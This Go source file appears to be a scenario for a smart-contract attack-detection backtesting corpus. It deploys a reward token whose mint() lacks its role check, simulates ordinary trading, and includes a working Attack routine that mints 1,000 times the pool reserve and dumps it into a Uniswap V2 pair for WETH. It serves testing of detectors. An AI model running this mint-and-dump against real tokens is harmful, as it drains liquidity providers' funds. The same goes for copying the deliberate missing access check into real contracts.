// Package openmint is the corpus scenario `access-control-mint`: a farm's
// reward token (GardenRewardToken, GRDN) whose mint() lost its role check;
// the attacker mints a vast amount and dumps it into the GRDN/WETH Uniswap V2
// pair for nearly all of its WETH (Uerii 2022, Paid Network 2021 and other
// "infinite mint" incidents).
package openmint

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/math"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/warden-dev/warden/contracts/bindings/gardenrewardtoken"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2factory"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2pair"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2router02"
	"github.com/warden-dev/warden/contracts/bindings/weth9"
	"github.com/warden-dev/warden/detect/backtest/corpus"
)

var (
	tokenABI   = gardenrewardtoken.NewGardenRewardToken()
	wethABI    = weth9.NewWETH9()
	factoryABI = uniswapv2factory.NewUniswapV2Factory()
	pairABI    = uniswapv2pair.NewUniswapV2Pair()
	routerABI  = uniswapv2router02.NewUniswapV2Router02()
	minterRole = crypto.Keccak256Hash([]byte("MINTER_ROLE"))
	deadline   = math.MaxBig256
)

// Gas limits, a few times what each call was measured to use.
const (
	gasTransfer  = 150_000
	gasApprove   = 100_000
	gasMint      = 150_000
	gasMintBatch = 300_000
	gasSwap      = 600_000
	gasLiquidity = 800_000
	gasAdmin     = 150_000
	keepers      = 3
)

type scenario struct{}

// New returns the scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "access-control-mint" }
func (scenario) Category() string { return "access-control" }

// state tracks wallets as of the transactions sent so far (lower bounds
// where a swap's output is not known in advance).
type state struct {
	token, weth, router, pair common.Address
	grdn, wweth               []*big.Int // per user
	lp                        *big.Int   // the whale's LP tokens
	keepers                   []*ecdsa.PrivateKey
	minters                   []*ecdsa.PrivateKey // keys seen holding MINTER_ROLE, Deployer first
	granted                   []*ecdsa.PrivateKey // MINTER_ROLE granted, not yet seen on chain
	lastTx                    map[*ecdsa.PrivateKey]common.Hash
	nextKeeper                int
}

// Deploy deploys GRDN (admin and first minter: the Deployer), WETH9, a
// Uniswap V2 factory and router, and seeds the GRDN/WETH pair with 1,000,000
// GRDN / 500 WETH. Users get GRDN rewards, wrap ETH and approve the router;
// the whale (Users[0]) also adds 200,000 GRDN / 100 WETH of liquidity.
func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 3 {
		return nil, fmt.Errorf("openmint: need at least 3 users, have %d", len(env.Users))
	}
	admin := corpus.Address(env.Deployer)
	st := &state{}
	var err error
	deploy := func(what string, meta *bind.MetaData, args ...any) common.Address {
		if err != nil {
			return common.Address{}
		}
		var a common.Address
		if a, _, err = env.Deploy(ctx, env.Deployer, meta, args...); err != nil {
			err = fmt.Errorf("openmint: deploy %s: %w", what, err)
		}
		return a
	}
	st.token = deploy("GardenRewardToken", &gardenrewardtoken.GardenRewardTokenMetaData, admin)
	st.weth = deploy("WETH9", &weth9.WETH9MetaData)
	factory := deploy("UniswapV2Factory", &uniswapv2factory.UniswapV2FactoryMetaData, admin)
	st.router = deploy("UniswapV2Router02", &uniswapv2router02.UniswapV2Router02MetaData, factory, st.weth)
	if err != nil {
		return nil, err
	}
	if err := env.SendAll(ctx, "create the pair and mint the seed", []corpus.Call{
		corpus.Tx(env.Deployer, factory, factoryABI.PackCreatePair(st.token, st.weth), nil, 3_000_000),
		corpus.Tx(env.Deployer, st.token, tokenABI.PackMint(admin, corpus.Ether(1_000_000)), nil, gasMint),
		corpus.Tx(env.Deployer, st.weth, wethABI.PackDeposit(), corpus.Ether(500), gasTransfer),
	}); err != nil {
		return nil, err
	}
	st.pair, err = bind.Call(factoryABI.Instance(env.Client, factory), &bind.CallOpts{Context: ctx}, factoryABI.PackGetPair(st.token, st.weth), factoryABI.UnpackGetPair)
	if err != nil {
		return nil, fmt.Errorf("openmint: read pair: %w", err)
	}
	if err := env.SendAll(ctx, "seed the pair", []corpus.Call{
		corpus.Tx(env.Deployer, st.token, tokenABI.PackTransfer(st.pair, corpus.Ether(1_000_000)), nil, gasTransfer),
		corpus.Tx(env.Deployer, st.weth, wethABI.PackTransfer(st.pair, corpus.Ether(500)), nil, gasTransfer),
	}); err != nil {
		return nil, err
	}
	if err := env.SendAll(ctx, "mint LP tokens", []corpus.Call{corpus.Tx(env.Deployer, st.pair, pairABI.PackMint(admin), nil, 600_000)}); err != nil {
		return nil, err
	}

	st.minters = []*ecdsa.PrivateKey{env.Deployer}
	st.lastTx = map[*ecdsa.PrivateKey]common.Hash{}
	admins := []common.Address{admin}
	var calls []corpus.Call
	for i := range keepers {
		k, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("warden corpus access-control-mint keeper %d", i))))
		if err != nil {
			return nil, fmt.Errorf("openmint: derive keeper key %d: %w", i, err)
		}
		st.keepers = append(st.keepers, k)
		admins = append(admins, corpus.Address(k))
		to := corpus.Address(k)
		calls = append(calls, corpus.Tx(env.Deployer, to, nil, corpus.Ether(5), 50_000))
	}
	for i, u := range env.Users {
		grdn, weth := corpus.RandEther(rng, 10_000, 60_000), corpus.RandEther(rng, 10, 50)
		if i == 0 {
			grdn, weth = corpus.Ether(400_000), corpus.Ether(200)
		}
		st.grdn = append(st.grdn, grdn)
		st.wweth = append(st.wweth, weth)
		calls = append(calls,
			corpus.Tx(env.Deployer, st.token, tokenABI.PackMint(corpus.Address(u), grdn), nil, gasMint),
			corpus.Tx(u, st.weth, wethABI.PackDeposit(), weth, gasTransfer),
			corpus.Tx(u, st.token, tokenABI.PackApprove(st.router, math.MaxBig256), nil, gasApprove),
			corpus.Tx(u, st.weth, wethABI.PackApprove(st.router, math.MaxBig256), nil, gasApprove),
		)
	}
	calls = append(calls, corpus.Tx(env.Users[0], st.pair, pairABI.PackApprove(st.router, math.MaxBig256), nil, gasApprove))
	if err := env.SendAll(ctx, "fund users", calls); err != nil {
		return nil, err
	}
	st.lp = new(big.Int)
	h, err := st.addLiquidity(ctx, env, corpus.Ether(200_000), corpus.Ether(100))
	if err != nil {
		return nil, err
	}
	if err := env.SendAll(ctx, "whale adds liquidity", nil, h); err != nil {
		return nil, err
	}
	// The estimate is a lower bound; now that it is mined, read the truth.
	if st.lp, err = erc20Balance(ctx, env, st.pair, corpus.Address(env.Users[0]), common.Hash{}); err != nil {
		return nil, err
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("GardenRewardToken", st.token, &gardenrewardtoken.GardenRewardTokenMetaData),
			corpus.ContractOf("GRDN-WETH pair", st.pair, &uniswapv2pair.UniswapV2PairMetaData),
		},
		Admins: admins,
		State:  st,
	}, nil
}

// Benign sends one ordinary action: swaps both ways (tokens and ETH), GRDN
// transfers and burns, reward mints (single and batch) by the team's
// minters, the whale removing or re-adding liquidity, and rarely the admin
// granting MINTER_ROLE to a new keeper or revoking an old one.
func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("openmint: deployment state is %T, not from this scenario", d.State)
	}
	u := 1 + rng.IntN(len(env.Users)-1)
	key, me := env.Users[u], corpus.Address(env.Users[u])
	other := corpus.Address(env.Users[rng.IntN(len(env.Users))])
	// Blocks do not reliably order one sender's transactions after
	// another's, so a keeper mints only once its role is seen on chain, and
	// tokens sent to a user are not counted as spendable by that user.
	if err := st.promoteMinters(ctx, env); err != nil {
		return nil, err
	}
	var h common.Hash
	var err error
	switch r := rng.Float64(); {
	case r < 0.25 && st.grdn[u].Cmp(corpus.Ether(200)) > 0:
		in := corpus.MinBig(corpus.RandEther(rng, 100, 10_000), st.grdn[u])
		out, qerr := st.quote(ctx, env, st.token, in)
		if qerr != nil {
			return nil, qerr
		}
		h, err = env.Call(ctx, key, st.router, routerABI.PackSwapExactTokensForTokens(in, common.Big0, []common.Address{st.token, st.weth}, me, deadline), nil, gasSwap)
		if err == nil {
			st.grdn[u].Sub(st.grdn[u], in)
			st.wweth[u].Add(st.wweth[u], corpus.Percent(out, 80))
		}
	case r < 0.45 && st.wweth[u].Cmp(corpus.Ether(1)) > 0:
		in := corpus.MinBig(corpus.RandEther(rng, 0, 5), st.wweth[u])
		out, qerr := st.quote(ctx, env, st.weth, in)
		if qerr != nil {
			return nil, qerr
		}
		h, err = env.Call(ctx, key, st.router, routerABI.PackSwapExactTokensForTokens(in, common.Big0, []common.Address{st.weth, st.token}, me, deadline), nil, gasSwap)
		if err == nil {
			st.wweth[u].Sub(st.wweth[u], in)
			st.grdn[u].Add(st.grdn[u], corpus.Percent(out, 80))
		}
	case r < 0.55:
		in := corpus.RandEther(rng, 0, 2)
		out, qerr := st.quote(ctx, env, st.weth, in)
		if qerr != nil {
			return nil, qerr
		}
		h, err = env.Call(ctx, key, st.router, routerABI.PackSwapExactETHForTokens(common.Big0, []common.Address{st.weth, st.token}, me, deadline), in, gasSwap)
		if err == nil {
			st.grdn[u].Add(st.grdn[u], corpus.Percent(out, 80))
		}
	case r < 0.65 && st.grdn[u].Cmp(corpus.Ether(100)) > 0:
		amount := corpus.Percent(st.grdn[u], 5+rng.IntN(40))
		h, err = env.Call(ctx, key, st.token, tokenABI.PackTransfer(other, amount), nil, gasTransfer)
		if err == nil {
			st.grdn[u].Sub(st.grdn[u], amount)
		}
	case r < 0.68 && st.grdn[u].Cmp(corpus.Ether(100)) > 0:
		amount := corpus.Percent(st.grdn[u], 1+rng.IntN(10))
		h, err = env.Call(ctx, key, st.token, tokenABI.PackBurn(amount), nil, gasTransfer)
		if err == nil {
			st.grdn[u].Sub(st.grdn[u], amount)
		}
	case r < 0.76:
		minter := st.minters[rng.IntN(len(st.minters))]
		amount := corpus.RandEther(rng, 100, 5_000)
		h, err = env.Call(ctx, minter, st.token, tokenABI.PackMint(other, amount), nil, gasMint)
		st.lastTx[minter] = h
	case r < 0.82:
		minter := st.minters[rng.IntN(len(st.minters))]
		var to []common.Address
		var amounts []*big.Int
		for range 3 {
			i := rng.IntN(len(env.Users))
			a := corpus.RandEther(rng, 50, 2_000)
			to = append(to, corpus.Address(env.Users[i]))
			amounts = append(amounts, a)
		}
		h, err = env.Call(ctx, minter, st.token, tokenABI.PackMintBatch(to, amounts), nil, gasMintBatch)
		st.lastTx[minter] = h
	case r < 0.86 && st.lp.Cmp(corpus.Ether(1)) > 0:
		// The whale pulls 30-70% of its liquidity: large and legitimate.
		liq := corpus.Percent(st.lp, 30+rng.IntN(41))
		h, err = env.Call(ctx, env.Users[0], st.router, routerABI.PackRemoveLiquidity(st.token, st.weth, liq, common.Big0, common.Big0, corpus.Address(env.Users[0]), deadline), nil, gasLiquidity)
		if err == nil {
			st.lp.Sub(st.lp, liq)
		}
	case r < 0.90 && st.grdn[0].Cmp(corpus.Ether(20_000)) > 0 && st.wweth[0].Cmp(corpus.Ether(10)) > 0:
		h, err = st.addLiquidity(ctx, env, corpus.Percent(st.grdn[0], 50), corpus.Percent(st.wweth[0], 50))
	case r < 0.97:
		h, err = st.wrap(ctx, env, u, corpus.RandEther(rng, 0, 5))
	case r >= 0.97 && r < 0.99 && st.nextKeeper < len(st.keepers):
		k := st.keepers[st.nextKeeper]
		h, err = env.Call(ctx, env.Deployer, st.token, tokenABI.PackGrantRole(minterRole, corpus.Address(k)), nil, gasAdmin)
		if err == nil {
			st.nextKeeper++
			st.granted = append(st.granted, k)
		}
	case r >= 0.99 && len(st.minters) > 2 && st.mined(ctx, env, st.lastTx[st.minters[1]]):
		// Retire the oldest keeper (never the Deployer, minters[0]) once
		// its last mint is mined.
		k := st.minters[1]
		h, err = env.Call(ctx, env.Deployer, st.token, tokenABI.PackRevokeRole(minterRole, corpus.Address(k)), nil, gasAdmin)
		if err == nil {
			st.minters = append(st.minters[:1], st.minters[2:]...)
		}
	default:
		h, err = st.wrap(ctx, env, u, corpus.RandEther(rng, 0, 5))
	}
	if err != nil {
		return nil, fmt.Errorf("openmint: benign step: %w", err)
	}
	return []common.Hash{h}, nil
}

// Attack approves the router, mints 1,000 times the pair's GRDN reserve to
// itself through the unprotected mint, and sells it all for WETH.
func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("openmint: deployment state is %T, not from this scenario", d.State)
	}
	me := corpus.Address(env.Attacker)
	before, err := erc20Balance(ctx, env, st.weth, me, common.Hash{})
	if err != nil {
		return nil, err
	}
	reserveGRDN, _, err := st.reserves(ctx, env)
	if err != nil {
		return nil, err
	}
	amount := new(big.Int).Mul(reserveGRDN, big.NewInt(1000))
	var txs []corpus.AttackTx
	var last common.Hash // block of the last attack transaction
	for _, s := range []struct {
		stage corpus.Stage
		to    common.Address
		data  []byte
		gas   uint64
		note  string
	}{
		{corpus.StagePreparation, st.token, tokenABI.PackApprove(st.router, math.MaxBig256), gasApprove, "approve the router for GRDN"},
		{corpus.StageExploit, st.token, tokenABI.PackMint(me, amount), gasMint, "mint 1,000x the pair's GRDN reserve without MINTER_ROLE"},
		{corpus.StageExploit, st.router, routerABI.PackSwapExactTokensForTokens(amount, common.Big0, []common.Address{st.token, st.weth}, me, deadline), gasSwap, "dump the minted GRDN into the pair for its WETH"},
	} {
		r, err := env.CallAndWait(ctx, env.Attacker, s.to, s.data, nil, s.gas)
		if r != nil {
			txs = append(txs, corpus.AttackTx{Hash: r.TxHash, Stage: s.stage, Note: s.note})
			last = r.BlockHash
		}
		if err != nil {
			return txs, fmt.Errorf("openmint: %s: %w", s.note, err)
		}
	}
	after, err := erc20Balance(ctx, env, st.weth, me, last)
	if err != nil {
		return txs, err
	}
	if after.Cmp(before) <= 0 {
		return txs, fmt.Errorf("openmint: attack left the attacker with %s WETH wei, had %s", after, before)
	}
	return txs, nil
}

func (st *state) wrap(ctx context.Context, env *corpus.Env, u int, amount *big.Int) (common.Hash, error) {
	h, err := env.Call(ctx, env.Users[u], st.weth, wethABI.PackDeposit(), amount, gasTransfer)
	if err == nil {
		st.wweth[u].Add(st.wweth[u], amount)
	}
	return h, err
}

// addLiquidity adds up to (grdn, weth) for the whale; both are counted as
// spent (the router takes at most the desired amounts), and the LP tokens
// at 80% of what the current reserves would mint.
func (st *state) addLiquidity(ctx context.Context, env *corpus.Env, grdn, weth *big.Int) (common.Hash, error) {
	whale := env.Users[0]
	rg, rw, err := st.reserves(ctx, env)
	if err != nil {
		return common.Hash{}, err
	}
	supply, err := bind.Call(pairABI.Instance(env.Client, st.pair), &bind.CallOpts{Context: ctx}, pairABI.PackTotalSupply(), pairABI.UnpackTotalSupply)
	if err != nil {
		return common.Hash{}, fmt.Errorf("openmint: LP supply: %w", err)
	}
	minted := new(big.Int).Div(new(big.Int).Mul(grdn, supply), rg)
	if m := new(big.Int).Div(new(big.Int).Mul(weth, supply), rw); m.Cmp(minted) < 0 {
		minted = m
	}
	h, err := env.Call(ctx, whale, st.router, routerABI.PackAddLiquidity(st.token, st.weth, grdn, weth, common.Big0, common.Big0, corpus.Address(whale), deadline), nil, gasLiquidity)
	if err != nil {
		return common.Hash{}, fmt.Errorf("openmint: whale adds liquidity: %w", err)
	}
	st.grdn[0].Sub(st.grdn[0], grdn)
	st.wweth[0].Sub(st.wweth[0], weth)
	st.lp.Add(st.lp, corpus.Percent(minted, 80))
	return h, nil
}

func (st *state) reserves(ctx context.Context, env *corpus.Env) (grdn, weth *big.Int, err error) {
	c := pairABI.Instance(env.Client, st.pair)
	r, err := bind.Call(c, &bind.CallOpts{Context: ctx}, pairABI.PackGetReserves(), pairABI.UnpackGetReserves)
	if err != nil {
		return nil, nil, fmt.Errorf("openmint: reserves of %s: %w", st.pair, err)
	}
	if st.token.Cmp(st.weth) < 0 { // token0 is the lower address
		return r.Reserve0, r.Reserve1, nil
	}
	return r.Reserve1, r.Reserve0, nil
}

// quote is what selling `in` of tokenIn into the pair returns now.
func (st *state) quote(ctx context.Context, env *corpus.Env, tokenIn common.Address, in *big.Int) (*big.Int, error) {
	rg, rw, err := st.reserves(ctx, env)
	if err != nil {
		return nil, err
	}
	rin, rout := rg, rw
	if tokenIn == st.weth {
		rin, rout = rw, rg
	}
	inFee := new(big.Int).Mul(in, big.NewInt(997))
	num := new(big.Int).Mul(inFee, rout)
	den := new(big.Int).Add(new(big.Int).Mul(rin, big.NewInt(1000)), inFee)
	return num.Div(num, den), nil
}

// erc20Balance reads who's balance of token at block (zero: latest). Reads
// right after a transaction name its block: "latest" may lag a receipt that
// was just seen.
func erc20Balance(ctx context.Context, env *corpus.Env, token, who common.Address, block common.Hash) (*big.Int, error) {
	v, err := bind.Call(tokenABI.Instance(env.Client, token), &bind.CallOpts{Context: ctx, BlockHash: block}, tokenABI.PackBalanceOf(who), tokenABI.UnpackBalanceOf)
	if err != nil {
		return nil, fmt.Errorf("openmint: balance of %s in %s: %w", who, token, err)
	}
	return v, nil
}

// promoteMinters moves keepers whose MINTER_ROLE grant is mined into minters.
func (st *state) promoteMinters(ctx context.Context, env *corpus.Env) error {
	waiting := st.granted[:0]
	for _, k := range st.granted {
		has, err := bind.Call(tokenABI.Instance(env.Client, st.token), &bind.CallOpts{Context: ctx}, tokenABI.PackHasRole(minterRole, corpus.Address(k)), tokenABI.UnpackHasRole)
		if err != nil {
			return fmt.Errorf("openmint: read MINTER_ROLE of %s: %w", corpus.Address(k), err)
		}
		if has {
			st.minters = append(st.minters, k)
		} else {
			waiting = append(waiting, k)
		}
	}
	st.granted = waiting
	return nil
}

// mined reports whether h (zero: nothing sent) has a receipt.
func (st *state) mined(ctx context.Context, env *corpus.Env, h common.Hash) bool {
	if h == (common.Hash{}) {
		return true
	}
	_, err := env.Client.TransactionReceipt(ctx, h)
	return err == nil
}
